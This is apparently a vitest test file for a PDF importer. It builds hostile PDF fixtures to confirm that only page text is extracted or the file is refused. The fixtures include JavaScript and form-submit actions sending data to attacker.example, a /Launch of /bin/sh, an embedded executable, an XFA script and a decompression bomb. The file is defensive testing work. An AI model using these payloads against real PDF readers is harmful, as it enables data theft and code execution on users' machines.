/** PDFs that ask for what a reader must not do, or that mean to break it: read for their words, or refused. */
import { deflateSync } from 'node:zlib';
import { afterEach, expect, test, vi } from 'vitest';
import { Refusal } from '../../../archive/importing/parsed.ts';
import { parsePdfFile } from '../../../archive/importing/pdf-file.ts';
import { drawnPdf, smallPdf, streamed } from './small-pdf.ts';

const words = 'BT /F1 12 Tf 72 700 Td (Words of the page) Tj ET';
const script =
  "/S /JavaScript /JS (globalThis.taken = true; this.submitForm\\('https://attacker.example'\\))";

const fetched = vi.spyOn(globalThis, 'fetch');
afterEach(() => {
  expect(fetched).not.toHaveBeenCalled();
  expect('taken' in globalThis).toBe(false);
});

const read: readonly (readonly [string, Parameters<typeof drawnPdf>[1]])[] = [
  ['a script run when it is opened', { catalog: `/OpenAction << ${script} >>` }],
  ['scripts by name', { catalog: `/Names << /JavaScript << /Names [(a) << ${script} >>] >> >>` }],
  ['a program started when it is opened', { catalog: '/OpenAction << /S /Launch /F (/bin/sh) >>' }],
  [
    'another file gone to',
    { catalog: '/OpenAction << /S /GoToR /F (https://attacker.example/a.pdf) /D [0 /Fit] >>' },
  ],
  ['an address opened with the page', { page: '/AA << /O << /S /URI /URI (https://attacker.example) >> >>' }],
  [
    'a form sent away',
    {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      more: [
        '<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [10 10 50 30] /A << /S /SubmitForm /F (https://attacker.example) >> >>',
      ],
    },
  ],
  [
    'a file inside',
    {
      catalog:
        '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>',
      more: [streamed('MZ', '/Type /EmbeddedFile')],
    },
  ],
  [
    'a form of XFA',
    {
      catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>',
      more: [
        streamed(
          '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><pageSet><pageArea><contentArea/></pageArea></pageSet><event activity="initialize"><script>globalThis.taken = true</script></event></subform></template></xdp:xdp>',
        ),
      ],
    },
  ],
  [
    'an outline that goes round in a circle',
    {
      catalog: '/Outlines 6 0 R',
      more: ['<< /First 7 0 R /Last 7 0 R >>', '<< /Title (Round) /Parent 6 0 R /Next 7 0 R /First 7 0 R >>'],
    },
  ],
];
test.each(read)('%s: only its words are read', async (_name, parts) => {
  const parsed = await parsePdfFile(drawnPdf(words, parts), 'hostile.pdf');
  expect(parsed.text.trim()).toBe('Words of the page');
  expect(parsed.pages).toBe(1);
});

const whole = Buffer.from(smallPdf({ pages: [['Words of the page']] })).toString('latin1');
test.each([
  ['two thousand million pages claimed', whole.replace('/Count 1 ', '/Count 2147483647 ')],
  ['pages that are their own parents', whole.replace('/Kids [5 0 R]', '/Kids [2 0 R]')],
  ['a page of no size', whole.replace('[0 0 595 842]', '[0 0 0 0]')],
  ['a page as large as a country', whole.replace('[0 0 595 842]', '[0 0 1e30 1e30]')],
])('%s: read, or refused with a sentence', async (_name, file) => {
  const result = await parsePdfFile(new Uint8Array(Buffer.from(file, 'latin1')), 'hostile.pdf').catch(
    (error: unknown) => error,
  );
  if (result instanceof Error) expect(result).toBeInstanceOf(Refusal);
  else expect((result as { text: string }).text).toContain('Words of the page');
});

test('a stream that swells to a thousand times its size is read no further than it must be', async () => {
  const bomb = deflateSync(Buffer.alloc(64_000_000, ' ')).toString('latin1');
  const pdf = drawnPdf(words, {
    page: '/Contents [4 0 R 6 0 R]',
    more: [streamed(bomb, '/Filter /FlateDecode')],
  });
  const result = await parsePdfFile(pdf, 'hostile.pdf').catch((error: unknown) => error);
  if (result instanceof Error) expect(result).toBeInstanceOf(Refusal);
}, 30_000);
